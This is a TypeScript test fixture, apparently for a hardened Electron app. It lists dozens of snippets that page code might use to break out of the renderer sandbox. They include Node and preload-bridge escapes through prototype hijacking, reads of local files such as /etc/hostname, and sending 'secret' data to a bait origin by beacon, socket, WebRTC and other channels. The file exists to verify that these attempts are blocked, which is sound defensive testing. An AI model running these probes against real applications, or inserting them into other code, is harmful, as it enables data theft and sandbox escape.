/**
 * What somebody tries whose code runs in the page: each is the body of an async function of the page, with `bait` the
 * origin of a web server, `port` that of a server of datagrams, and returns what it reached, or undefined.
 */
export const ATTACKS: Readonly<Record<string, string>> = {
  'Node by its globals': `return [typeof require, typeof process, typeof Buffer, typeof module, typeof global, typeof __dirname]
    .find((type) => type !== 'undefined');`,
  'Node by an import': `return (await import('node:fs')).readFileSync;`,
  'Node by an import of another form': `return (await import('fs')).readFileSync;`,
  Electron: `return window.electron ?? window.ipcRenderer ?? window.require ?? (await import('electron'));`,
  'Electron by the constructor of the bridge': `
    return causeway.connect.constructor('return typeof process === "object" ? process : undefined')();`,
  'the world of the preload script': `
    let seen; const keep = Function.prototype.call;
    Function.prototype.call = function (...all) { if (all.some((one) => one?.sender ?? one?.ipcRenderer)) seen = all; return keep.apply(this, all); };
    try { causeway.onState(() => undefined)(); await causeway.retryService({}); } finally { Function.prototype.call = keep; }
    return seen;`,
  'the event of a state': `
    return await new Promise((done) => { causeway.onState((...all) => done(all.length > 1 ? all : undefined)); });`,
  'another bridge': `
    try { window.causeway = { taken: true }; } catch {}
    try { causeway.connect = () => 'taken'; } catch {}
    return causeway.taken ?? (String(causeway.connect).includes('taken') ? 'taken' : undefined);`,
  'a file by fetch': `return await (await fetch('file:///etc/hostname')).text();`,
  'a file by a request': `
    return await new Promise((done, fail) => { const request = new XMLHttpRequest(); request.onload = () => done(request.responseText);
      request.onerror = fail; request.open('GET', 'file:///etc/hostname'); request.send(); });`,
  'a file by a frame': `
    const frame = document.createElement('iframe'); frame.src = 'file:///etc/hostname';
    document.body.append(frame); await new Promise((done) => setTimeout(done, 100));
    try { return frame.contentDocument?.body?.textContent || undefined; } finally { frame.remove(); }`,
  'the program of the app': `return await (await fetch('/../main.cjs')).text();`,
  'its own files by fetch': `return await (await fetch('/index.html')).text();`,
  'another origin by fetch': `return await (await fetch(bait + '/fetch', { mode: 'no-cors' })).type;`,
  'another origin by a beacon': `navigator.sendBeacon(bait + '/beacon', 'secret');`,
  'another origin by a socket': `
    return await new Promise((done, fail) => { const socket = new WebSocket(bait.replace('http', 'ws')); socket.onopen = () => done('open');
      socket.onerror = fail; });`,
  'another origin by a stream of events': `
    return await new Promise((done, fail) => { const source = new EventSource(bait + '/events'); source.onopen = () => done('open');
      source.onerror = fail; });`,
  'another origin by a picture': `
    return await new Promise((done, fail) => { const image = new Image(); image.onload = () => done('shown'); image.onerror = fail; image.src = bait + '/image'; });`,
  'another origin by a style': `
    const style = document.createElement('style'); style.textContent = '@import url(' + bait + '/style); body { background: url(' + bait + '/ground) }';
    document.head.append(style); await new Promise((done) => setTimeout(done, 100)); style.remove();`,
  'another origin by hints': `
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'stylesheet']) {
      const link = document.createElement('link'); link.rel = rel; link.href = bait + '/' + rel; link.as = 'script'; document.head.append(link); }
    await new Promise((done) => setTimeout(done, 100));`,
  'another origin by a form': `
    const form = document.createElement('form'); form.action = bait + '/form'; form.method = 'post'; document.body.append(form); form.submit(); form.remove();`,
  'another origin by a link that is clicked': `
    for (const target of ['', '_blank', '_top']) { const link = document.createElement('a'); link.href = bait + '/link'; link.target = target; link.ping = bait + '/ping';
      document.body.append(link); link.click(); link.remove(); }`,
  'another origin by a window': `return window.open(bait + '/window') ?? undefined;`,
  'an empty window': `return window.open('about:blank') ?? undefined;`,
  'another page by its location': `location.href = bait + '/location'; await new Promise((done) => setTimeout(done, 100));`,
  'a page that is data': `location.href = 'data:text/html,<p>here</p>'; await new Promise((done) => setTimeout(done, 100));`,
  'a script address': `location.href = 'javascript:window.taken=1'; await new Promise((done) => setTimeout(done, 50)); return window.taken;`,
  'another origin by a peer': `
    const port = Number(new URL(bait).port);
    const servers = [{ urls: 'stun:127.0.0.1:' + datagrams }, { urls: 'turn:127.0.0.1:' + port + '?transport=tcp', username: 'a', credential: 'b' }];
    const peer = new RTCPeerConnection({ iceServers: servers }); const found = [];
    peer.onicecandidate = ({ candidate }) => { if (candidate?.candidate) found.push(candidate.candidate); };
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 500)); peer.close();
    return found.find((candidate) => !candidate.includes('.local'));`,
  'another origin by a transport': `const there = new WebTransport(bait.replace('http', 'https')); await there.ready; return 'open';`,
  'a service worker': `return (await navigator.serviceWorker.register('/index.html')).scope;`,
  'a worker': `
    return await new Promise((done, fail) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('runs'); worker.onerror = fail; });`,
  'code from text': `return eval('1 + 1');`,
  'a function from text': `return new Function('return 1')();`,
  'a timer from text': `setTimeout('window.taken = 2', 0); await new Promise((done) => setTimeout(done, 20)); return window.taken;`,
  'markup from text': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.taken = 3">'); return 'taken';`,
  'markup with a script': `const div = document.createElement('div'); div.innerHTML = '<script>1</script>'; return div.innerHTML;`,
  'a script element with text': `
    const script = document.createElement('script'); script.text = 'window.taken = 4'; document.body.append(script); script.remove(); return window.taken;`,
  'a script element of data': `
    const script = document.createElement('script'); script.src = 'data:text/javascript,window.taken=5'; document.body.append(script);
    await new Promise((done) => setTimeout(done, 50)); return window.taken;`,
  'an attribute with code': `const div = document.createElement('div'); div.setAttribute('onclick', 'window.taken = 6'); div.click(); return window.taken;`,
  'a policy of its own for text': `return trustedTypes.createPolicy('mine', { createScript: (text) => text, createHTML: (text) => text }).createScript('1');`,
  'a module of WebAssembly': `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'compiled';`,
  'where the computer is': `return await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail, { timeout: 500 }));`,
  notifications: `const said = await Notification.requestPermission(); return said === 'granted' ? said : undefined;`,
  'what was copied': `return await navigator.clipboard.readText();`,
  'a camera': `return await navigator.mediaDevices.getUserMedia({ video: true });`,
  'the screen': `return await navigator.mediaDevices.getDisplayMedia({ video: true });`,
  'a USB device': `return await navigator.usb.requestDevice({ filters: [] });`,
  'a serial port': `return await navigator.serial.requestPort();`,
  'a Bluetooth device': `return await navigator.bluetooth.requestDevice({ acceptAllDevices: true });`,
  'a HID device': `const found = await navigator.hid.requestDevice({ filters: [] }); return found.length > 0 ? found : undefined;`,
  MIDI: `return await navigator.requestMIDIAccess({ sysex: true });`,
  'the whole screen': `await document.documentElement.requestFullscreen(); return 'full';`,
  'the pointer': `await document.body.requestPointerLock(); return document.pointerLockElement ?? undefined;`,
  'the keyboard': `await navigator.keyboard.lock(); return 'locked';`,
  'files by their dialog': `return await window.showOpenFilePicker();`,
  'storage for ever': `return (await navigator.storage.persist()) || undefined;`,
  'a download': `
    const link = document.createElement('a'); link.download = 'taken.txt'; link.href = 'data:text/plain,taken'; document.body.append(link); link.click(); link.remove();
    const blob = document.createElement('a'); blob.download = 'taken.txt'; blob.href = URL.createObjectURL(new Blob(['taken'])); blob.click();`,
  'a dialog of the page': `const before = performance.now(); alert('hello'); confirm('hello'); return prompt('hello') ?? undefined;`,
  'a print': `window.print();`,
};
